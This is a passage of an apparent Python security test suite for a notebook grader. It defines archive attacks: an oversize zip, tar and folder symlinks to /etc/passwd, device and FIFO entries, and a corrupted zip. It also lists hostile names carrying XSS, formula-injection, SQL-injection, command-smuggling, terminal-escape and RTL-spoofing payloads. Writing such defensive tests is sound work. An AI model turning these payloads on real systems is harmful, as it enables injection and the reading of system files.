        says="leads out",
    ),
    Attack(
        "a long file in a zip",
        "5 MB of zeros and one more as the notebook",
        "no more is read than would be taken",
        zipped((NOTEBOOK, bytes(5_000_001))),
        says="longer than 5 MB",
        state="nothing of the course",
    ),
    Attack(
        "tar with links and devices",
        "the notebook is a link to a secret, a device, a FIFO",
        "only plain files are taken",
        tarred(
            (NOTEBOOK, b"", "/etc/passwd", tarfile.SYMTYPE),
            (f"x/{NOTEBOOK}", b"", "/etc/passwd", tarfile.LNKTYPE),
            (f"y/{NOTEBOOK}", b"", "", tarfile.CHRTYPE),
            (f"z/{NOTEBOOK}", b"", "", tarfile.FIFOTYPE),
        ),
        says="a link",
        state="nothing of the course",
        never=("root:",),
    ),
    Attack(
        "a folder of links",
        "the notebook is a link, and so is its folder",
        "no link is followed",
        lambda path: [
            path.mkdir(),
            (path / "notebooks").mkdir(),
            os.symlink("/etc/passwd", path / NOTEBOOK),
            os.symlink("/etc", path / "train"),
        ],
        says="a link",
        state="nothing of the course",
        never=("root:",),
    ),
    Attack(
        "a broken zip",
        "its compressed bytes are none",
        "said to be unreadable",
        lambda path: broken_zip(path),
        says="cannot be read",
        state="refused",
    ),
]


def broken_zip(path: Path) -> None:
    zipped((NOTEBOOK, RIGHT))(path)
    packed = bytearray(Path(f"{path}.zip").read_bytes())
    packed[100:300] = bytes(range(200))
    Path(f"{path}.zip").write_bytes(packed)


# Names that a student may have, or that an attacker gives a folder.
NAMES = [
    "<script>alert(1)</script>",
    '=HYPERLINK("http:evil")',
    "@SUM(1)",
    "javascript:alert(1)",
    "..evil",
    "a\nb,9,9",
    "\x1b[2J\x1b]0;mine\x07",
    "\u202egnp.exe",
    "名" * 80,
    "CON",
    "a" * 200,
    "con.json",
    "\udcff\udcfe",
    "x'; DROP TABLE marks; --",
    "eve;=1+1|cmd",
    "\uff1d1+1",
    "bob",
    "bob\u200b",
    "+\uff0b1",
]
